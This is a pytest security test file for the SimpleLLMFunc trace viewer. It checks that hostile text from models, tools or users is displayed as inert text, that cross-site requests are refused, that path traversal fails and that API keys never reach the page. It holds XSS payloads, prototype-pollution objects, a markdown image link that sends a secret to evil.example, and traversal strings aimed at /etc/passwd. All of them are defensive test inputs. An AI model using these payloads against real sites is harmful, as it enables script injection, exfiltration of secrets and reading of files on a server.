"""Attack 22: the page. What a model, a tool, a user or another site says is text on it, and opens nothing."""

import ast
import asyncio
import contextlib
import http.client
import json
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
from pydantic import BaseModel

from SimpleLLMFunc import Message, OpenAICompatible, Tool, llm_chat, llm_function
from SimpleLLMFunc.base.run.sinks import watching
from SimpleLLMFunc.errors import SimpleLLMFuncError
from SimpleLLMFunc.logger import remember_secret
from SimpleLLMFunc.observability.store.trace_store import TraceStore
from SimpleLLMFunc.testing import ScriptedLLM, tool_calls
from tests.support.canary import CANARIES
from tests.support.server import LoopbackServer
from tests.viewer.served import HEADERS, LOOPBACK, Served, Visit, app_of, client_of, opened_browser

MARKUP = [
    "<img src=x onerror=window.pwned=1>", "</script><script>window.pwned=1</script>", '"><svg onload=window.pwned=1>',
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>", "<a href='javascript:window.pwned=1'>here</a>",
    "[here](javascript:window.pwned=1)", "![x](https://evil.example/?d=secret)", "<style>*{display:none}</style>",
    "{{constructor.constructor('window.pwned=1')()}}", "<math><mtext></p><img src=x onerror=window.pwned=1>",
]  # fmt: skip
ALL = "\n".join(MARKUP)
POLLUTED: dict[str, Any] = {
    "__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}, "toString": "x", "hasOwnProperty": "y",
    "text": ALL,
}  # fmt: skip


class Reply(BaseModel):
    text: str


def _named(name: str) -> Any:
    def function(text: str, options: dict[str, Any] | None = None, mark: str = ALL) -> Reply:
        raise NotImplementedError

    function.__name__ = function.__qualname__ = name
    function.__doc__ = f"Answer. {ALL}"
    return function


def _tool(**arguments: Any) -> str:
    return f"found {ALL}"


EVIL_TOOL = Tool(
    func=_tool, name="look", description=ALL, parameters={"type": "object", "properties": {ALL: {"type": "string"}}}
)
EVIL_NAME = MARKUP[2]


def hostile(**options: Any) -> Any:
    """A function all of whose parts are markup, and a model that answers markup."""
    reasks = [
        json.dumps({"text": 3, "__proto__": {"polluted": 1}}),
        json.dumps({"text": ALL, "__proto__": {"polluted": 1}}),
    ]
    calls = tool_calls(("look", json.dumps(POLLUTED)), (MARKUP[0], "{}"), content=ALL)
    llm = ScriptedLLM(calls, *reasks, model_name=ALL, repeat=True)
    return llm_function(llm_interface=llm, toolkit=[EVIL_TOOL], repair="off", **options)(_named(EVIL_NAME))


@llm_chat(llm_interface=ScriptedLLM(ALL, repeat=True))
def guide(history: list[Message], message: str):
    """<img src=x onerror=window.pwned=1>"""


@pytest.fixture
def store(tmp_path) -> Iterator[TraceStore]:
    with TraceStore(tmp_path / "runs.sqlite", interval=0.01) as made:
        yield made


def fill(store: TraceStore) -> None:
    with watching(store, session_id=ALL, user_id=ALL):
        hostile()(ALL, POLLUTED)
        failing = hostile(max_reasks=0)
        with pytest.raises(SimpleLLMFuncError):
            failing(ALL, POLLUTED)
        for _ in guide([{"role": "user", "content": ALL}, {"role": "assistant", "content": ALL}], ALL):
            pass
    assert store.flush()


@pytest.fixture
def browser() -> Iterator[Any]:
    with opened_browser() as opened:
        yield opened


# --- text is text -----------------------------------------------------------------------------------------


def _unharmed(visit: Visit) -> None:
    assert visit.problems == []
    state = visit.tab.evaluate(
        """() => ({
            pwned: typeof window.pwned, polluted: ({}).polluted, proto: Object.keys(Object.prototype).length,
            made: document.querySelectorAll("main img, main svg:not(.icon), main iframe, main script, main style, main math").length,
            links: [...document.querySelectorAll("a")].map((link) => link.getAttribute("href")).filter((at) => !at.startsWith("#")),
            handlers: [...document.querySelectorAll("main *")].filter((each) => [...each.attributes].some((a) => /^on/.test(a.name))).length,
        })"""
    )
    assert state == {
        "pwned": "undefined",
        "proto": 0,
        "made": 0,
        "links": [],
        "handlers": 0,
        **({"polluted": None} if "polluted" in state else {}),
    }


@pytest.mark.heavy
def test_attack_22_markup_in_any_part_of_a_run_is_shown_as_text(browser, store, tmp_path):
    fill(store)
    checkpoint = tmp_path / "map.sqlite"
    hostile(max_reasks=0).map([{"text": ALL, "options": POLLUTED}], checkpoint=checkpoint)
    app = app_of(store, allow_run=[hostile(), guide], checkpoints=[checkpoint])
    with Served(app) as served, Visit(browser, served.address) as visit:
        tab = visit.go("/runs", "tbody tr")
        assert tab.locator("tbody tr").count() == 3
        assert EVIL_NAME in tab.inner_text("main")
        _unharmed(visit)
        for number in (1, 2, 3):
            tab = visit.go(f"/run/{number}", "section.card")
            for shown in tab.locator("details").all():
                shown.evaluate("each => { each.open = true; }")
            for button in tab.locator(".tabs button").all():
                button.click()
            for button in tab.locator("button.plain.small").all():
                if button.is_visible():
                    button.click()
            assert MARKUP[0] in tab.inner_text("main")
            _unharmed(visit)
        for place, waiting in (
            ("/functions", "tbody tr"), (f"/function/{_quoted(EVIL_NAME)}", ".versions"), ("/play", ".pick"),
            (f"/play/{_quoted(EVIL_NAME)}?run=1", "form"), ("/chat", ".pick"), ("/maps", ".meter"), ("/map/0", ".rows"),
            (f"/nowhere/{_quoted(ALL)}", ".empty"),
            (f"/runs?text={_quoted(ALL)}&function={_quoted(ALL)}", ".filters"),
        ):  # fmt: skip
            visit.go(place, waiting)
            _unharmed(visit)
        tab = visit.go(f"/play/{_quoted(EVIL_NAME)}?run=1", "form")
        tab.click("button.first")
        tab.wait_for_selector(".diff")
        assert MARKUP[0] in tab.inner_text("main")
        _unharmed(visit)
        tab = visit.go("/chat/guide", ".talk")
        tab.fill(".say textarea", ALL)
        tab.keyboard.press("Enter")
        tab.wait_for_selector(".bubble:not(.mine):has-text('evil.example')")
        _unharmed(visit)


def _quoted(text: str) -> str:
    return quote(text, safe="")


def test_attack_22_a_copied_test_runs_nothing_of_what_it_copies(store):
    fill(store)
    text = client_of(app_of(store)).get("/api/runs/3/test").json()["text"]
    tree = ast.parse(text)
    names = {type(node).__name__ for node in tree.body}
    assert names <= {"Expr", "Import", "ImportFrom", "Assign", "FunctionDef"}
    for node in tree.body:
        if isinstance(node, ast.Assign):
            ast.literal_eval(node.value)
    # A name that is no identifier is not written as code.
    assert client_of(app_of(store)).get("/api/runs/1/test").status_code == 409


# --- other sites ------------------------------------------------------------------------------------------


def test_attack_22_another_site_runs_nothing(store):
    """What a page elsewhere can make a browser send here, even one that got hold of the token."""
    llm = ScriptedLLM("ran")
    client = client_of(app_of(store, allow_run=[llm_function(llm_interface=llm)(_named("target"))]))
    for name in HEADERS:
        del client.headers[name]
    usual = {"Origin": LOOPBACK, "Content-Type": "application/json"}
    for token in (HEADERS, {}):
        for headers in (
            {"Origin": "http://evil.com"},
            {"Origin": "null"},
            {"Sec-Fetch-Site": "cross-site"},
            {"Sec-Fetch-Site": "same-site", "Origin": "http://localhost:1"},
            {"Origin": "http://127.0.0.1:1"},
            {"Content-Type": "text/plain"},
            {"Content-Type": "application/x-www-form-urlencoded"},
        ):
            given = {**usual, **token, **headers}
            reply = client.post("/api/play/target", content=b'{"arguments": {"text": "x"}}', headers=given)
            assert reply.status_code in {401, 403, 415}, given
    assert llm.calls == []


# --- paths ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "/../../etc/passwd", "/..%2f..%2fetc%2fpasswd", "/%2e%2e/%2e%2e/etc/passwd", "//etc/passwd", "/static/../server.py", "/..\\..\\server.py",
        "/server.py", "/__init__.py", "/lang/../../security.py", "/lang/%00en.json", "/.", "/lang/", "/vendor", "/api/../server.py",
        "/api/runs/..%2f..%2f..%2fetc%2fpasswd", "/api/maps/..%2f..%2fetc%2fpasswd", "http://evil.com/", "/" + "a" * 20_000, "/%ff%fe",
    ],
)  # fmt: skip
def test_attack_22_no_path_leads_to_a_file(store, path):
    fill(store)
    with Served(app_of(store)) as served:
        place = urlsplit(served.address).netloc
        connection = http.client.HTTPConnection(place, timeout=10)
        connection.request("GET", path, headers={**HEADERS, "Host": place, "Connection": "close"})
        reply = connection.getresponse()
        answer = reply.headers.as_bytes() + reply.read()
    assert reply.status in {400, 404, 414, 431}, answer[:200]
    for part in (b"root:", b"def ", b"import ", b"pwned"):
        assert part not in answer


# --- keys -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("canary", CANARIES, ids=lambda canary: canary.name)
def test_attack_22_no_key_is_on_the_page(store, canary, tmp_path):
    """A key in the arguments, the answer, a tool, an error, an address: nothing that the page is sent holds it."""
    remember_secret(canary.key)

    def leak() -> str:
        """Leak."""
        raise RuntimeError(f"https://u:{canary.key}@h/?api_key={canary.key}")

    def asked(text: str) -> str:
        """Answer."""

    async def go():
        async with LoopbackServer() as server:
            server.reply_tool_calls([("leak", {})])
            server.reply(f"The key is {canary.key}, {json.dumps(canary.key)}.")
            server.reply_json({"error": {"message": f"Incorrect API key: {canary.key}"}}, status=401)
            llm = OpenAICompatible("m", api_key=canary.key, base_url=f"{server.base_url}?key={_quoted(canary.key)}")
            function = llm_function(llm_interface=llm, toolkit=[leak])(asked)
            with watching(store):
                for _ in range(2):
                    with contextlib.suppress(SimpleLLMFuncError):
                        await asyncio.to_thread(function, f"use {canary.key}")

    asyncio.run(go())
    assert store.flush()
    echo = llm_function(llm_interface=ScriptedLLM(f"I was given {canary.key}!", repeat=True, chunk_size=3))(asked)
    checkpoint = tmp_path / "map.sqlite"
    echo.map([{"text": canary.key}], checkpoint=checkpoint)
    client = client_of(app_of(store, allow_run=[echo], checkpoints=[checkpoint]), Origin=LOOPBACK)
    texts = {}
    paths = "runs runs/1 runs/2 changes?since=0 filters functions functions/asked play chats maps maps/0 maps/0/rows"
    for path in (*paths.split(), "runs/1/curl?number=1", "runs/1/test", f"runs?text={_quoted('key is')}"):
        texts[path] = client.get(f"/api/{path}").text
    texts["play"] = client.post("/api/play/asked", json={"arguments": {"text": canary.key}}).text
    texts["preview"] = client.post("/api/play/asked/preview", json={"arguments": {"text": canary.key}}).text
    texts["wrong"] = client.post("/api/play/asked", json={"arguments": {"text": 3, "more": canary.key}}).text
    found = {path: canary.found_in(text) for path, text in texts.items() if canary.found_in(text)}
    assert found == {}
    pieces = "".join(json.loads(line).get("text", "") for line in texts["play"].splitlines())
    assert not canary.found_in(pieces)
